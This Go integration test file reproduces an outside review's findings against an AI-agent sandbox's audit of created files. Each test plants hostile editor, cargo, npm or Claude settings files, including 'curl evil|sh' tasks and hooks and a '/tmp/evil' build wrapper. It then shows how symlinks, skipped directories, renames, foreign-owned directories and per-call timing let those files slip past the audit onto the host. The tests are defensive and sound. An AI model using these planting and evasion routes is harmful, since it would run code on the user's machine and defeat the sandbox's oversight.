package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Repro tests of an outside review of the end-of-run audit of created
// agent files (06804bd..fa7e719: pkg/policy/createdaudit.go, GitAudit.Run,
// protectGlob links:true). Each FAILS on the code reviewed until fixed.

// reviewBackends runs fn for the native backend and, where it can start,
// the landlock one (its flag, or none for native).
func reviewBackends(t *testing.T, u user, fn func(t *testing.T, flags []string)) {
	t.Run("native", func(t *testing.T) { fn(t, nil) })
	t.Run("landlock", func(t *testing.T) {
		requireLandlock(t, u)
		fn(t, []string{"--backend", "landlock"})
	})
}

// agentFiles are files the nested protect patterns of the base profile
// stand for, as a sandbox would plant them below dir (relative to the
// workspace): an editor's task run on folder open, cargo's build wrapper.
var reviewAgentFiles = []string{".vscode/tasks.json", ".cargo/config.toml"}

func plantScript(dir string) string {
	return `mkdir -p ` + dir + `/.vscode ` + dir + `/.cargo && ` +
		`echo '{"version":"2.0.0","tasks":[{"label":"x","command":"curl evil|sh","runOptions":{"runOn":"folderOpen"}}]}' > ` + dir + `/.vscode/tasks.json && ` +
		`printf '[build]\nrustc-wrapper = "/tmp/evil"\n' > ` + dir + `/.cargo/config.toml`
}

// leftOnHost fails t for every planted agent file still readable on the
// host at ws/proj/NAME (following symlinks on the way, as an editor or
// cargo started in ws/proj does), when the run did not at least name it.
func leftOnHost(t *testing.T, ws, proj string, r result) {
	t.Helper()
	for _, f := range reviewAgentFiles {
		p := filepath.Join(ws, proj, f)
		if _, err := os.Stat(p); err == nil && !strings.Contains(r.stderr, filepath.Join(ws, proj)) {
			t.Errorf("%s, made by the sandbox, is left on the host neither quarantined nor reported; stderr %q", p, r.stderr)
		}
	}
}

// FINDING 1a (HIGH). The end walk does not enter the directories the
// start's walk skips (node_modules, target, .venv ...) and does not follow
// symlinks. One run plants .vscode/tasks.json and .cargo/config.toml in
// pkgs/node_modules/p and links pkgs/proj -> node_modules/p: the audit
// sees neither, and an editor opened on pkgs/proj, or cargo run there,
// reads them on the host.
func TestReviewAuditSymlinkToSkippedDir(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		reviewBackends(t, u, func(t *testing.T, flags []string) {
			ws := filepath.Join(u.visibleDir(t), "proj")
			u.mkdirs(t, filepath.Join(ws, "pkgs"))
			time.Sleep(50 * time.Millisecond)
			r := u.sh(t, &runOpts{dir: ws}, flags, plantScript("pkgs/node_modules/p")+` && ln -s node_modules/p pkgs/proj && echo planted`)
			expectCode(t, r, 0)
			if !strings.Contains(r.stdout, "planted") {
				t.Fatalf("the sandbox could not plant: %q %q", r.stdout, r.stderr)
			}
			leftOnHost(t, ws, "pkgs/proj", r)
		})
	})
}

// FINDING 1b (HIGH). A match is judged by its own inode and what it
// holds, not by the directories above it. A first run stashes
// .vscode/tasks.json and .cargo/config.toml in pkgs/node_modules (not
// walked); a second run only renames pkgs/node_modules to pkgs/proj (one
// rename in one directory: Landlock allows it without the refer right).
// The rename stamps pkgs/proj, not the .vscode and .cargo below it, whose
// ctime is the first run's: neither is quarantined, and no warning names
// them.
func TestReviewAuditMovedAncestor(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		reviewBackends(t, u, func(t *testing.T, flags []string) {
			ws := filepath.Join(u.visibleDir(t), "proj")
			u.mkdirs(t, filepath.Join(ws, "pkgs"))
			time.Sleep(50 * time.Millisecond)
			r := u.sh(t, &runOpts{dir: ws}, flags, plantScript("pkgs/node_modules")+` && echo planted`)
			expectCode(t, r, 0)
			if !strings.Contains(r.stdout, "planted") {
				t.Fatalf("the sandbox could not plant: %q %q", r.stdout, r.stderr)
			}
			// The second run starts in a later tick of the clock.
			time.Sleep(50 * time.Millisecond)
			r = u.sh(t, &runOpts{dir: ws}, flags, `mv pkgs/node_modules pkgs/proj && echo moved`)
			expectCode(t, r, 0)
			if !strings.Contains(r.stdout, "moved") {
				t.Fatalf("the sandbox could not move: %q %q", r.stdout, r.stderr)
			}
			leftOnHost(t, ws, "pkgs/proj", r)
		})
	})
}

// FINDING 2 (MED). A match that is a symlink is judged by its own inode
// only. A nested .npmrc that links to a shared file, deeper than the
// start's walk (8 levels: not protected, its target not read-only), stays
// old while the sandbox rewrites the file it leads to: npm run in that
// package on the host reads the sandbox's script-shell, and the audit
// neither quarantines the link nor says anything.
func TestReviewAuditDeepLinkTargetRewritten(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		reviewBackends(t, u, func(t *testing.T, flags []string) {
			ws := filepath.Join(u.visibleDir(t), "proj")
			deep := filepath.Join(ws, "pkgs", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j")
			u.mkdirs(t, deep)
			shared := filepath.Join(ws, "npmrc-shared")
			u.writeFile(t, shared, "registry=https://registry.npmjs.org/\n", 0o644)
			link := filepath.Join(deep, ".npmrc")
			if err := os.Symlink(shared, link); err != nil {
				t.Fatal(err)
			}
			os.Lchown(link, u.uid, u.gid)
			time.Sleep(50 * time.Millisecond)
			r := u.sh(t, &runOpts{dir: ws}, flags, `echo 'script-shell=/tmp/evil' >> npmrc-shared && echo written`)
			expectCode(t, r, 0)
			b, _ := os.ReadFile(link) // through the link, as npm reads it
			if strings.Contains(string(b), "evil") && !strings.Contains(r.stderr, link) {
				t.Errorf("%s leads to what the sandbox wrote (%q), neither quarantined nor reported; stderr %q", link, b, r.stderr)
			}
		})
	})
}

// FINDING 3 (MED, root-less with a full subordinate range). The walk
// records a directory it cannot list only when it is the user's own
// (walker.unlisted); the audit reopens only those. With an /etc/subuid
// range the sandbox owns other host uids: it plants pkgs/x/y/.vscode,
// chowns pkgs/x to uid 5 (host 1000005) and makes it 0711. The end walk
// cannot list pkgs/x, so never learns of y, and says nothing, while the
// user still reaches pkgs/x/y/.vscode/tasks.json by name through the
// search bit, as an editor opened on pkgs/x/y does. (A match directly in
// pkgs/x is found by name and reported, since its rename fails.)
func TestReviewAuditForeignUIDDirHides(t *testing.T) {
	u := requireHolderTest(t)
	addSubIDEntry(t, "65534:1000000:65536")
	if !fullRange(t, u) {
		t.Skip("nsbox status reports no full range for uid 65534 with an /etc/subuid entry")
	}
	ws := filepath.Join(u.visibleDir(t), "proj")
	u.mkdirs(t, filepath.Join(ws, "pkgs"))
	time.Sleep(50 * time.Millisecond)
	r := u.sh(t, &runOpts{dir: ws}, nil, plantScript("pkgs/x/y")+` && chown -R 5:5 pkgs/x && chmod 0711 pkgs/x && echo planted`)
	// Fixed: the audit cannot look into it, so it is incomplete, named,
	// and the run fails closed (125), as for a tree past the walk's
	// bounds.
	if r.code != 125 || !strings.Contains(r.stderr, filepath.Join(ws, "pkgs", "x")) {
		t.Errorf("want exit 125 naming pkgs/x, got %d; stderr %q", r.code, r.stderr)
	}
	if !strings.Contains(r.stdout, "planted") {
		t.Fatalf("the sandbox could not plant: %q %q", r.stdout, r.stderr)
	}
	for _, f := range reviewAgentFiles {
		p := filepath.Join(ws, "pkgs", "x", "y", f)
		// Read as the user, on the host.
		if c := u.runAs(t, nil, "/bin/cat", p); c.code == 0 && !strings.Contains(r.stderr, filepath.Join(ws, "pkgs", "x")) {
			t.Errorf("%s, made by the sandbox, is readable by the user on the host, neither quarantined nor reported; stderr %q", p, r.stderr)
		}
	}
}

// FINDING 4 (LOW). Protect patterns now match symlinks, and protectOne
// makes what a match leads to read-only, or, when it is missing, puts a
// placeholder on the host in its place. A nested .vscode -> ../.. (as a
// cloned repository may hold, or a run left through finding 1) makes the
// whole workspace read-only in every later run; a dangling
// pkgs/y/.npmrc -> ../../src/build/npmrc makes an empty src/build on the
// host during the run, and the sandbox cannot make its build directory.
func TestReviewAuditLinkTargetLocksWorkspace(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		reviewBackends(t, u, func(t *testing.T, flags []string) {
			for _, c := range []struct{ link, target, script, what string }{
				{"pkgs/x/.vscode", "../..", `echo ok > src/out.txt || echo refused`, "a nested .vscode symlink to the workspace made the workspace read-only"},
				{"pkgs/y/.npmrc", "../../src/build/npmrc", `mkdir -p src/build/obj || echo refused`, "a dangling nested .npmrc symlink kept the sandbox from making src/build/"},
			} {
				// In src/, not at the top of the workspace, which the
				// landlock backend freezes anyway (its placeholders).
				ws := filepath.Join(u.visibleDir(t), "proj")
				p := filepath.Join(ws, c.link)
				u.mkdirs(t, filepath.Dir(p), filepath.Join(ws, "src"))
				// Without the link the script works (this backend
				// can write there).
				if r := u.sh(t, &runOpts{dir: ws}, flags, c.script+`; rm -rf src/*; echo done`); strings.Contains(r.stdout, "refused") {
					t.Fatalf("without the link: %s; stderr %q", c.what, r.stderr)
				}
				if err := os.Symlink(c.target, p); err != nil {
					t.Fatal(err)
				}
				os.Lchown(p, u.uid, u.gid)
				r := u.sh(t, &runOpts{dir: ws}, flags, c.script+`; echo done`)
				expectCode(t, r, 0)
				if strings.Contains(r.stdout, "refused") {
					t.Errorf("%s; stderr %q", c.what, r.stderr)
				}
			}
		})
	})
}

// FINDING 4b (LOW). The placeholder a dangling matched link gets is made
// inside the sandbox's user namespace, which may write in the user's own
// read-only (0555) directory; the host side cannot remove it there, and
// says nothing: a committed pkgs/y/.npmrc -> ../../ro/npmrc leaves an
// empty ro/npmrc on the host after every run (the link now resolves).
func TestReviewAuditLinkPlaceholderLeftBehind(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		ro := filepath.Join(ws, "ro")
		u.mkdirs(t, filepath.Join(ws, "pkgs", "y"), ro)
		link := filepath.Join(ws, "pkgs", "y", ".npmrc")
		if err := os.Symlink("../../ro/npmrc", link); err != nil {
			t.Fatal(err)
		}
		os.Lchown(link, u.uid, u.gid)
		if err := os.Chmod(ro, 0o555); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.Chmod(ro, 0o755) })
		r := u.sh(t, &runOpts{dir: ws}, nil, `echo ran`)
		expectCode(t, r, 0)
		if exists(filepath.Join(ro, "npmrc")) && !strings.Contains(r.stderr, filepath.Join(ro, "npmrc")) {
			t.Errorf("the run left a placeholder %s on the host without a word; stderr %q", filepath.Join(ro, "npmrc"), r.stderr)
		}
	})
}

// FINDING 5 (MED). A protected agent directory is read-only, but a
// symlink inside it is followed to a file the sandbox can write: no
// protection reaches a link's target below the protected path (only
// the links on the way to it), and the end audit skips the directory as
// known. A monorepo that shares settings (pkgs/a/.vscode/tasks.json ->
// ../../../shared/tasks.json, .claude/settings.json ->
// ../shared/claude.json) hands the editor or agent on the host the
// sandbox's tasks and hooks, with no warning.
func TestReviewAuditLinkInsideProtectedDir(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		reviewBackends(t, u, func(t *testing.T, flags []string) {
			ws := filepath.Join(u.visibleDir(t), "proj")
			u.mkdirs(t, filepath.Join(ws, "pkgs", "a", ".vscode"), filepath.Join(ws, ".claude"), filepath.Join(ws, "shared"))
			u.writeFile(t, filepath.Join(ws, "shared", "tasks.json"), "{}\n", 0o644)
			u.writeFile(t, filepath.Join(ws, "shared", "claude.json"), "{}\n", 0o644)
			links := map[string]string{
				"pkgs/a/.vscode/tasks.json": "../../../shared/tasks.json",
				".claude/settings.json":     "../shared/claude.json",
			}
			for link, target := range links {
				p := filepath.Join(ws, link)
				if err := os.Symlink(target, p); err != nil {
					t.Fatal(err)
				}
				os.Lchown(p, u.uid, u.gid)
			}
			time.Sleep(50 * time.Millisecond)
			r := u.sh(t, &runOpts{dir: ws}, flags, `echo '{"hooks":"curl evil|sh"}' > shared/tasks.json; echo '{"hooks":"curl evil|sh"}' > shared/claude.json; echo done`)
			expectCode(t, r, 0)
			for link := range links {
				p := filepath.Join(ws, link)
				if b, _ := os.ReadFile(p); strings.Contains(string(b), "evil") && !strings.Contains(r.stderr, filepath.Dir(p)) {
					t.Errorf("%s in a protected directory reads what the sandbox wrote (%q), with no warning; stderr %q", p, b, r.stderr)
				}
			}
		})
	})
}

// FINDING 6 (MED, design). With --isolation per-call every tool call runs
// in a sandbox of its own that is dead when the call returns, but the
// audit of created files runs only when the pool closes (the end of the
// MCP connection, hours later): meanwhile what a call planted
// (pkgs/x/.cargo/config.toml, .vscode/tasks.json) waits on the host, under
// its name, for the user's cargo or editor in the same workspace. (The
// session mode has the same window, with a sandbox that lives on.)
func TestReviewAuditPerCallWindow(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, "pkgs"))
		m := startMCP(t, u, ws, "--isolation", "per-call", "--pool-size", "1", "--workspace", ws)
		time.Sleep(50 * time.Millisecond)
		text, ok := m.call("run_command", map[string]any{"command": plantScript("pkgs/x") + ` && echo planted`})
		if !ok || !strings.Contains(text, "planted") {
			t.Fatalf("the call could not plant: %v %q; stderr %q", ok, text, m.stderr.String())
		}
		for _, f := range reviewAgentFiles {
			if p := filepath.Join(ws, "pkgs", "x", f); exists(p) {
				t.Errorf("%s, planted by a call whose sandbox is gone, is on the host under its name while the server runs", p)
			}
		}
	})
}
